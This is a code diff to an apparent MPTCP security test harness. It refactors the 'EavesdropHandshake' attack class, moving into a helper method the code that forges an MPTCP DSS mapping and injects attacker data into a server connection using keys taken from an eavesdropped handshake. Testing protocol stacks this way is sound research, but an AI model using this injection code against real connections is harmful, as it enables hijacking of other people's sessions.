@@ -33,7 +33,6 @@ public final class EavesdropHandshake implements KernelAttack {
     @Override
     public boolean run(AttackContext ctx) throws IOException {
         CapturedConnection c = ctx.connection();
-        Wiretap tap = ctx.tap();
         if (c.checksumRequired()) {
             ctx.note("connection negotiated DSS checksums; this attacker does not compute them");
             return false;
@@ -44,23 +43,14 @@ public final class EavesdropHandshake implements KernelAttack {
         if (joined.isEmpty()) {
             return false;
         }
-        int port = joined.get().port();
-        long seq = joined.get().seq();
-        long ack = joined.get().ack();
-
         long dsn = c.clientNextDsn();
         ctx.note("attacker: data sequence number = IDSN(client key) + 1 + " + c.fromClient().dataBytes()
                 + " bytes seen = " + Long.toUnsignedString(dsn)
                 + c.fromClient().dssEnd().stream().mapToObj(e -> e == dsn
                         ? " (agrees with the highest captured DSS mapping end)"
                         : " (captured DSS mapping end " + Long.toUnsignedString(e) + ")").findFirst().orElse(""));
-        MptcpOption.Dss dss = new MptcpOption.Dss(
-                MptcpOption.Dss.F_ACK | MptcpOption.Dss.F_ACK8 | MptcpOption.Dss.F_MAPPING | MptcpOption.Dss.F_DSN8,
-                OptionalLong.of(c.serverNextDsn()), OptionalLong.of(dsn), OptionalLong.of(1),
-                OptionalInt.of(INJECTED.length), OptionalInt.empty());
         int appMark = ctx.server().eventCount();
-        tap.send(Topology.SERVER_MAC, new TcpSegment(Topology.FORGED, c.server(), port, c.serverPort(), seq, ack,
-                TcpSegment.ACK | TcpSegment.PSH, Forge.WINDOW, List.of(Forge.mptcp(dss)), Bytes.of(INJECTED)));
+        inject(ctx, c, joined.get(), dsn);
 
         Optional<JsonNode> got = ctx.server().awaitFrom(appMark, e -> "data".equals(e.path("event").asText()), 2_000);
         byte[] stream = ctx.server().received();
@@ -79,6 +69,19 @@ public final class EavesdropHandshake implements KernelAttack {
         boolean injected = got.isPresent() && Arrays.equals(stream, expectedStream);
         boolean accepted = delta.getOrDefault("MPTcpExtMPJoinAckRx", 0L) >= 1 && subflows >= 1;
         return injected && accepted;
+    }
+
+    /**
+     * Sends {@link #INJECTED} on the attacker's joined subflow, mapped at data sequence number
+     * {@code dsn} (subflow sequence 1) with a data ACK of the server's next DSN.
+     */
+    static void inject(AttackContext ctx, CapturedConnection c, ForgedJoin.Joined j, long dsn) throws IOException {
+        MptcpOption.Dss dss = new MptcpOption.Dss(
+                MptcpOption.Dss.F_ACK | MptcpOption.Dss.F_ACK8 | MptcpOption.Dss.F_MAPPING | MptcpOption.Dss.F_DSN8,
+                OptionalLong.of(c.serverNextDsn()), OptionalLong.of(dsn), OptionalLong.of(1),
+                OptionalInt.of(INJECTED.length), OptionalInt.empty());
+        ctx.tap().send(Topology.SERVER_MAC, new TcpSegment(Topology.FORGED, c.server(), j.port(), c.serverPort(), j.seq(),
+                j.ack(), TcpSegment.ACK | TcpSegment.PSH, Forge.WINDOW, List.of(Forge.mptcp(dss)), Bytes.of(INJECTED)));
     }
 
     static byte[] concat(byte[] a, byte[] b) {
